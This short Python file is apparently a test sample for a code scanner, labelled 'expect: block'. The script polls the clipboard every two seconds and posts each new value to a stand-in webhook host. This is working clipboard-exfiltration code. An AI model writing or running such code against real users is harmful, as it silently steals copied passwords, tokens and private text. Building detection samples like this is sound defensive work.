# expect: block
import time

import pyperclip
import requests

HOOK = "https://hooks.example.net/services/T000/B000/XXXX"
seen = ""
while True:
    current = pyperclip.paste()
    if current != seen:
        seen = current
        requests.post(HOOK, json={"text": seen}, timeout=5)
    time.sleep(2)
